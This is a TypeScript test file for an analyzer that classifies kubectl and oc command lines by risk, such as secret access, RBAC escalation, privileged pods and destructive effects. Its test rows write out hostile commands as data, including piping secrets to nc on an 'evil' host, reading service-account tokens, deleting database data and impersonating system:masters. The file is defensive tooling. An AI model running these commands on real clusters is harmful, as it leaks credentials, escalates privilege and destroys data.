import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import type { Analysis, Analyzer } from '../analyzer.js'
import type { KubernetesFacts } from './index.js'
import { loadKubernetesAnalyzer } from './index.js'

let kubernetes: Analyzer<KubernetesFacts>
before(async () => {
  kubernetes = await loadKubernetesAnalyzer()
})

const analyze = (command: string, manifest?: string): Analysis<KubernetesFacts> =>
  kubernetes.analyze(manifest === undefined ? { command } : { command, manifest })

/** The facts named in `expected`, to compare only those. */
function pick(facts: KubernetesFacts, expected: Partial<KubernetesFacts>): Partial<KubernetesFacts> {
  return Object.fromEntries(Object.keys(expected).map((key) => [key, facts[key as keyof KubernetesFacts]]))
}

type Row = readonly [string, string, Partial<KubernetesFacts>]

/** Every risk flag false, to spread into rows of harmless commands. */
const HARMLESS = { privileged: false, rbac_escalation: false, secrets_access: false, interactive_access: false, destructive: false } as const

describe('kubectl commands and their facts', () => {
  const rows: readonly Row[] = [
    ['deletes a named object', 'kubectl delete deployment api -n prod', { verb: 'delete', resource: 'deployments', namespace: 'prod', name: 'api', kind: 'Deployment', destructive: true, secrets_access: false }],
    ['deletes TYPE/NAME objects', 'kubectl delete deploy/api svc/api', { verb: 'delete', resources: ['deployments', 'services'], resource: '', name: 'api', destructive: true }],
    ['deletes a selected collection', 'kubectl delete pods -l app=web -n prod', { verb: 'deletecollection', resource: 'pods', name: '', destructive: true }],
    ['deletes everything everywhere', 'kubectl delete pods --all -A', { verb: 'deletecollection', namespace: '*', all_namespaces: true, destructive: true }],
    ['deletes a namespace', 'kubectl delete ns prod', { verb: 'delete', resource: 'namespaces', namespace: '', name: 'prod', destructive: true }],
    ['deletes a secret', 'kubectl delete secret db -n prod', { verb: 'delete', resource: 'secrets', secrets_access: true, destructive: true }],
    ['lists pods', 'kubectl get pods -n prod', { verb: 'list', verbs: ['list'], resource: 'pods', namespace: 'prod', kind: 'Pod', ...HARMLESS }],
    ['gets one pod', 'kubectl get pod web-1 -n prod -o wide', { verb: 'get', resource: 'pods', name: 'web-1', ...HARMLESS }],
    ['watches pods', 'kubectl get po -w', { verb: 'watch', verbs: ['watch', 'list'], resource: 'pods' }],
    ['lists several types', 'k get po,svc,deploy -n prod', { verb: 'list', resource: '', resources: ['pods', 'services', 'deployments'] }],
    ['lists the all category without secrets', 'kubectl get all -A', { verb: 'list', secrets_access: false, all_namespaces: true }],
    ['reads secrets', 'kubectl get secrets', { verb: 'list', resource: 'secrets', kind: 'Secret', secrets_access: true }],
    ['prints a secret', 'kubectl get secret db -o yaml -n prod', { verb: 'get', name: 'db', secrets_access: true }],
    ['reads secrets through a raw path', 'kubectl get --raw /api/v1/namespaces/prod/secrets', { verb: 'list', resource: 'secrets', namespace: 'prod', secrets_access: true }],
    ['describes a secret', 'kubectl describe secret db', { verb: 'get', resource: 'secrets', secrets_access: true }],
    ['resolves short names', 'kubectl get cm,sa,crb,rb,ds,sts,ing,pvc,pv,no,ns', { resources: ['configmaps', 'serviceaccounts', 'clusterrolebindings', 'rolebindings', 'daemonsets', 'statefulsets', 'ingresses', 'persistentvolumeclaims', 'persistentvolumes', 'nodes', 'namespaces'] }],
    ['resolves group-qualified names', 'kubectl get deployments.v1.apps api', { resource: 'deployments', name: 'api', kind: 'Deployment' }],
    ['creates a secret', 'kubectl create secret generic db --from-literal=password=hunter2 -n prod', { verb: 'create', resource: 'secrets', name: 'db', namespace: 'prod', secrets_access: true, privileged: false }],
    ['creates a TLS secret', 'kubectl create secret tls web --cert=c.pem --key=k.pem', { verb: 'create', resource: 'secrets', secrets_access: true }],
    ['mints a token', 'kubectl create token deployer -n ops', { verb: 'create', resource: 'serviceaccounts', name: 'deployer', secrets_access: true }],
    ['creates a namespace', 'kubectl create namespace staging', { verb: 'create', resource: 'namespaces', name: 'staging', ...HARMLESS }],
    ['creates a deployment', 'kubectl create deployment web --image=nginx -r 3', { verb: 'create', resource: 'deployments', name: 'web', ...HARMLESS }],
    ['binds cluster-admin', 'kubectl create clusterrolebinding ops-admin --clusterrole=cluster-admin --serviceaccount=ops:deployer', { verb: 'create', resource: 'clusterrolebindings', rbac_escalation: true }],
    ['binds a custom role', 'kubectl create rolebinding read --role=reader --user=bob -n dev', { verb: 'create', resource: 'rolebindings', rbac_escalation: false }],
    ['binds view to everyone', 'kubectl create clusterrolebinding open --clusterrole=view --group=system:authenticated', { rbac_escalation: true }],
    ['creates a wildcard role', "kubectl create role all --verb='*' --resource=pods", { verb: 'create', resource: 'roles', rbac_escalation: true }],
    ['creates an exec role', 'kubectl create role shell --verb=get,create --resource=pods,pods/exec', { rbac_escalation: true }],
    ['creates a read-only role', 'kubectl create clusterrole reader --verb=get,list,watch --resource=pods,deployments.apps', { rbac_escalation: false }],
    ['asks what it can do', 'kubectl auth can-i get secrets -n prod', { verb: 'create', resource: 'selfsubjectaccessreviews', ...HARMLESS }],
    ['reconciles RBAC', 'kubectl auth reconcile -f -', { verb: 'update', rbac_escalation: true }],
    ['execs a shell', 'kubectl exec -it web-1 -n prod -- sh', { verb: 'exec', resource: 'pods', name: 'web-1', namespace: 'prod', interactive_access: true, privileged: false, secrets_access: false }],
    ['execs into a workload', 'kubectl exec deploy/api -- ls /', { verb: 'exec', resource: 'pods', name: '', interactive_access: true }],
    ['reads a service account token through exec', 'kubectl exec web-1 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token', { interactive_access: true, secrets_access: true }],
    ['deletes data through exec', `kubectl exec db-0 -- sh -c 'rm -rf /var/lib/postgresql/data'`, { interactive_access: true, destructive: true }],
    ['attaches', 'kubectl attach web-1 -it', { verb: 'attach', interactive_access: true }],
    ['copies a token out', 'kubectl cp prod/web-1:/var/run/secrets/kubernetes.io/serviceaccount/token ./token', { verb: 'exec', namespace: 'prod', name: 'web-1', interactive_access: true, secrets_access: true }],
    ['copies a local file in, which may hold the gateway host\'s secrets', 'kubectl cp ./app.conf web-1:/etc/app.conf -c app', { verb: 'exec', name: 'web-1', interactive_access: true, secrets_access: true, destructive: false }],
    ['copies a file out onto the gateway host', 'kubectl cp web-1:/tmp/report.txt ./report.txt', { verb: 'exec', secrets_access: false, destructive: true }],
    ['uploads a local file into a configmap', 'kubectl create configmap keys --from-file=/etc/countersign/audit.pem', { verb: 'create', resource: 'configmaps', secrets_access: true }],
    ['reads a local template file', 'kubectl get pods -o go-template-file=/etc/shadow', { secrets_access: true }],
    ['writes a local dump', 'kubectl cluster-info dump --output-directory=/etc', { destructive: true }],
    ['sends credentials to a server of its choosing', 'kubectl get pods -s https://evil.example', { secrets_access: true }],
    ['skips TLS verification', 'kubectl get pods --insecure-skip-tls-verify', { secrets_access: true }],
    ['picks its own context', 'kubectl --context prod get pods', { rbac_escalation: true }],
    ['brings its own token', 'kubectl get pods --token=abc', { rbac_escalation: true }],
    ['names a subject with --user, not a kubeconfig user', 'kubectl create rolebinding rb --clusterrole=view --user=bob', { rbac_escalation: false }],
    ['port-forwards', 'kubectl port-forward svc/db 5432:5432 -n prod', { verb: 'portforward', resource: 'pods', ...HARMLESS }],
    ['scales to zero', 'kubectl scale deploy/api --replicas=0', { verb: 'patch', resource: 'deployments', name: 'api', destructive: true }],
    ['scales up', 'kubectl scale deployment api --replicas 5', { verb: 'patch', destructive: false }],
    ['restarts a rollout', 'kubectl rollout restart deployment/api -n prod', { verb: 'patch', resource: 'deployments', name: 'api', ...HARMLESS }],
    ['reads a rollout', 'kubectl rollout status deploy/api', { verb: 'get', verbs: ['get', 'watch'] }],
    ['undoes a rollout', 'kubectl rollout undo deploy/api --to-revision=3', { verb: 'patch', destructive: false }],
    ['drains a node', 'kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data', { verb: 'evict', verbs: ['evict', 'patch', 'list'], resource: 'nodes', name: 'node-1', destructive: true }],
    ['drains without evictions', 'kubectl drain node-1 --disable-eviction --force', { verbs: ['evict', 'patch', 'list', 'delete'], destructive: true }],
    ['cordons a node', 'kubectl cordon node-1', { verb: 'patch', resource: 'nodes', name: 'node-1', ...HARMLESS }],
    ['uncordons a node', 'kubectl uncordon node-1', { verb: 'patch', resource: 'nodes', destructive: false }],
    ['taints a node NoExecute', 'kubectl taint nodes node-1 dedicated=db:NoExecute', { verb: 'patch', resource: 'nodes', destructive: true }],
    ['taints a node NoSchedule', 'kubectl taint nodes node-1 dedicated=db:NoSchedule', { destructive: false }],
    ['patches a container privileged', `kubectl patch deploy api -p '{"spec":{"template":{"spec":{"containers":[{"name":"api","securityContext":{"privileged":true}}]}}}}'`, { verb: 'patch', privileged: true }],
    ['patches hostNetwork with a JSON patch', `kubectl patch deploy api --type=json -p '[{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}]'`, { privileged: true }],
    ['patches replicas to zero through the scale subresource', `kubectl patch deploy api --subresource=scale -p '{"spec":{"replicas":0}}'`, { destructive: true }],
    ['patches a harmless label', `kubectl patch deploy api -p '{"metadata":{"labels":{"team":"a"}}}'`, { verb: 'patch', ...HARMLESS }],
    ['patches subjects into a binding', `kubectl patch clusterrolebinding x -p '{"subjects":[{"kind":"User","name":"eve"}]}'`, { rbac_escalation: true }],
    ['edits a deployment unseen', 'kubectl edit deploy api', { verb: 'patch', privileged: true, rbac_escalation: false }],
    ['edits a role unseen', 'kubectl edit role ops -n prod', { rbac_escalation: true }],
    ['edits a configmap', 'kubectl edit cm settings', { privileged: false, rbac_escalation: false, secrets_access: false }],
    ['applies a file it cannot see', 'kubectl apply -f deploy.yaml', { verb: 'patch', privileged: true, rbac_escalation: true, secrets_access: true, destructive: false }],
    ['applies a kustomization it cannot see', 'kubectl apply -k overlays/prod', { privileged: true, rbac_escalation: true }],
    ['prunes', 'kubectl apply --prune -l app=web -f x.yaml', { verbs: ['patch', 'delete'], destructive: true }],
    ['force-replaces', 'kubectl replace --force -f x.yaml', { verb: 'update', verbs: ['update', 'delete', 'create'], destructive: true }],
    ['runs a privileged pod', 'kubectl run debug --image=busybox -it --rm --privileged -- sh', { verb: 'create', verbs: ['create', 'attach'], resource: 'pods', name: 'debug', privileged: true, interactive_access: true }],
    ['runs a pod with host overrides', `kubectl run x --image=nginx --overrides='{"spec":{"hostPID":true}}'`, { privileged: true }],
    ['runs a plain pod', 'kubectl run web --image=nginx --port=80', { verb: 'create', ...HARMLESS }],
    ['debugs a node', 'kubectl debug node/node-1 -it --image=busybox', { verb: 'create', privileged: true, interactive_access: true }],
    ['debugs a pod as sysadmin', 'kubectl debug web-1 -it --image=busybox --profile=sysadmin', { verb: 'patch', name: 'web-1', privileged: true, interactive_access: true }],
    ['debugs a pod with the general profile', 'kubectl debug web-1 -it --image=busybox --profile=general', { privileged: false, interactive_access: true }],
    ['labels a namespace privileged', 'kubectl label ns prod pod-security.kubernetes.io/enforce=privileged --overwrite', { verb: 'patch', resource: 'namespaces', privileged: true }],
    ['removes Pod Security enforcement', 'kubectl label ns prod pod-security.kubernetes.io/enforce-', { privileged: true }],
    ['labels a pod', 'kubectl label pod web-1 tier=front', { verb: 'patch', ...HARMLESS }],
    ['aggregates a cluster role into admin', 'kubectl label clusterrole x rbac.authorization.k8s.io/aggregate-to-admin=true', { rbac_escalation: true }],
    ['annotates', 'kubectl annotate deploy api note=hi', { verb: 'patch', ...HARMLESS }],
    ['adds subjects to a binding', 'kubectl set subject clusterrolebinding x --user=eve', { rbac_escalation: true }],
    ['copies a secret into env', 'kubectl set env deploy/api --from=secret/db', { verb: 'patch', secrets_access: true }],
    ['sets an image', 'kubectl set image deploy/api api=nginx:1.27', { verb: 'patch', name: 'api', ...HARMLESS }],
    ['approves a certificate', 'kubectl certificate approve csr-42', { verb: 'update', resource: 'certificatesigningrequests', rbac_escalation: true }],
    ['impersonates', 'kubectl --as=system:admin get pods', { rbac_escalation: true }],
    ['impersonates a group', 'kubectl get pods --as=bob --as-group=system:masters', { rbac_escalation: true }],
    ['serves the API through a proxy', 'kubectl proxy --port=8080', { verb: 'proxy', privileged: true, rbac_escalation: true, secrets_access: true }],
    ['prints the raw kubeconfig', 'kubectl config view --raw', { verb: '', secrets_access: true }],
    ['switches context', 'kubectl config use-context prod', { destructive: true }],
    ['reads logs', 'kubectl logs -f web-1 -c app -n prod', { verb: 'get', resource: 'pods', name: 'web-1', ...HARMLESS }],
    ['reads metrics', 'kubectl top pod -A', { verb: 'list', resource: 'pods', all_namespaces: true }],
    ['exposes a deployment', 'kubectl expose deploy api --port=80 --type=LoadBalancer', { verb: 'create', resource: 'services', name: 'api' }],
    ['autoscales', 'kubectl autoscale deploy api --min=2 --max=5', { verb: 'create', resource: 'horizontalpodautoscalers' }],
    ['reads the version', 'kubectl version', { verb: 'get', ...HARMLESS }],
    ['uses global flags anywhere', 'kubectl --context prod get -nkube-system cm --kubeconfig=/k', { verb: 'list', resource: 'configmaps', namespace: 'kube-system' }],
    ['takes the last namespace given', 'kubectl -n dev get pods -n prod', { namespace: 'prod' }],
    ['marks dry runs', 'kubectl delete pod web-1 --dry-run=server', { dry_run: true, destructive: true }],
    ['leaves out the program name', 'delete pod web-1', { verb: 'delete', name: 'web-1' }],
    ['opens a shell with oc rsh', 'oc rsh web-1', { verb: 'exec', interactive_access: true }],
    ['grants cluster-admin with oc', 'oc adm policy add-cluster-role-to-user cluster-admin alice', { rbac_escalation: true }],
    ['grants a privileged SCC with oc', 'oc adm policy add-scc-to-user privileged -z builder -n ci', { privileged: true }],
    ['drains with oc adm', 'oc adm drain node-1', { verb: 'evict', destructive: true }],
  ]
  for (const [what, line, expected] of rows) {
    it(`${what}: ${line}`, () => {
      const { facts } = analyze(line)
      assert.equal(facts.parse_error, '', `unexpected parse error for ${line}`)
      assert.deepEqual(pick(facts, expected), expected)
    })
  }
})

describe('kubectl lines that cannot be analyzed', () => {
  const rows: readonly (readonly [string, string])[] = [
    ['a pipe', 'kubectl get secrets -o yaml | nc evil 80'],
    ['a && list', 'kubectl get pods && kubectl delete ns prod'],
    ['command substitution', 'kubectl delete pod $(hostname)'],
    ['another program', 'helm uninstall api'],
    ['sudo', 'sudo kubectl get pods'],
    ['an environment assignment', 'KUBECONFIG=/tmp/k kubectl get pods'],
    ['an unknown command', 'kubectl frobnicate pods'],
    ['an unknown flag', 'kubectl get pods --sneaky'],
    ['an unknown short flag', 'kubectl get pods -Z'],
    ['a flag missing its value', 'kubectl get pods -n'],
    ['a bad boolean', 'kubectl delete pods --all=maybe'],
    ['a group without a subcommand', 'kubectl rollout deploy/api'],
    ['a secret without a kind', 'kubectl create secret db'],
    ['a delete without names', 'kubectl delete deployments'],
    ['mixed resource forms', 'kubectl delete deploy/api svc'],
    ['an empty line', '   '],
    ['an unsupported oc command', 'oc login https://api.example.com -u admin -p secret'],
    ['a program given by path, which could be anything', '/tmp/x/kubectl get pods'],
    ['a kuberc that can redefine commands', 'kubectl --kuberc=/tmp/rc get pods'],
  ]
  for (const [what, line] of rows) {
    it(`sets parse_error and every risk flag for ${what}`, () => {
      const { facts } = analyze(line)
      assert.notEqual(facts.parse_error, '')
      assert.deepEqual(pick(facts, { privileged: true, rbac_escalation: true, secrets_access: true, destructive: true }), {
        privileged: true,
        rbac_escalation: true,
        secrets_access: true,
        destructive: true,
      })
    })
  }
})

describe('kubectl with an attached manifest', () => {
  const manifest = [
    'apiVersion: apps/v1',
    'kind: Deployment',
    'metadata: { name: api }',
    'spec:',
    '  template:',
    '    spec:',
    '      containers: [{ name: api, image: nginx }]',
    '---',
    'apiVersion: v1',
    'kind: Service',
    'metadata: { name: api }',
  ].join('\n')

  it('reads the manifest of apply -f - and puts namespace-less objects in the -n namespace', () => {
    const { facts, summary } = analyze('kubectl apply -n prod -f -', manifest)
    assert.equal(facts.verb, 'patch')
    assert.deepEqual(facts.objects.map((o) => `${o.kind}/${o.namespace}/${o.name}`), ['Deployment/prod/api', 'Service/prod/api'])
    assert.equal(facts.privileged, false)
    assert.equal(summary, 'apply 2 objects (Deployment api, Service api) in prod')
  })

  it('deletes the objects of delete -f -', () => {
    const { facts } = analyze('kubectl delete -f -', manifest)
    assert.equal(facts.verb, 'delete')
    assert.equal(facts.destructive, true)
    assert.equal(facts.objects.length, 2)
  })

  it('creates the objects of create -f -', () => {
    assert.equal(analyze('kubectl create -f -', manifest).facts.verb, 'create')
  })

  it('replaces the objects of replace -f -', () => {
    assert.equal(analyze('kubectl replace -f -', manifest).facts.verb, 'update')
  })

  it('does not take the manifest for the content of a named file', () => {
    const { facts, highlights } = analyze('kubectl apply -f deploy.yaml', manifest)
    assert.equal(facts.privileged, true)
    assert.equal(facts.objects.length, 0)
    assert.ok(highlights.some((h) => h.includes('not read by this command')))
  })

  it('fails on a manifest that is not valid YAML', () => {
    const { facts } = analyze('kubectl apply -f -', 'kind: [unclosed')
    assert.notEqual(facts.parse_error, '')
    assert.equal(facts.privileged, true)
  })

  it('notes that exec -i feeds the manifest to the command', () => {
    const { facts, highlights } = analyze('kubectl exec -i web-1 -- sh', 'rm -rf /data')
    assert.equal(facts.interactive_access, true)
    assert.ok(highlights.some((h) => h.includes("command's stdin")))
  })
})

describe('kubectl summaries and highlights', () => {
  const rows: readonly (readonly [string, string, readonly string[]])[] = [
    ['kubectl delete deployment api -n prod', 'delete deployments/api in prod', ['deletes deployments/api in prod']],
    ['kubectl exec -it web-1 -- sh', 'exec into pod web-1', ['exec into pod web-1 (interactive shell)']],
    ['kubectl scale deploy/api --replicas=0 -n prod', 'scale deployments/api in prod to 0 replicas', ['scales deployments/api in prod to 0 replicas']],
    ['kubectl get secrets -n prod', 'get secrets in prod', ['reads secrets in prod']],
    ['kubectl delete ns prod', 'delete namespaces/prod', ['deletes namespace prod and everything in it']],
    [
      'kubectl create clusterrolebinding ops-admin --clusterrole=cluster-admin --serviceaccount=ops:deployer',
      'create clusterrolebindings/ops-admin',
      ['binds cluster-admin to serviceaccount ops/deployer'],
    ],
  ]
  for (const [line, summary, highlights] of rows) {
    it(`describes ${line}`, () => {
      const analysis = analyze(line)
      assert.equal(analysis.summary, summary)
      assert.deepEqual(analysis.highlights, highlights)
    })
  }

  it('never shows secret values given on the line', () => {
    const analysis = analyze('kubectl create secret generic db --from-literal=password=hunter2 --token=sekrit-token -s https://u:pw@api')
    const shown = [analysis.summary, ...analysis.highlights].join('\n')
    for (const secret of ['hunter2', 'sekrit-token', 'u:pw']) assert.ok(!shown.includes(secret), `${secret} shown in ${shown}`)
  })

  it('masks credentials in an exec command', () => {
    const { highlights } = analyze('kubectl exec db-0 -- psql postgres://app:s3cret@localhost/db -c "select 1"')
    assert.ok(highlights.every((h) => !h.includes('s3cret')), highlights.join('\n'))
  })
})
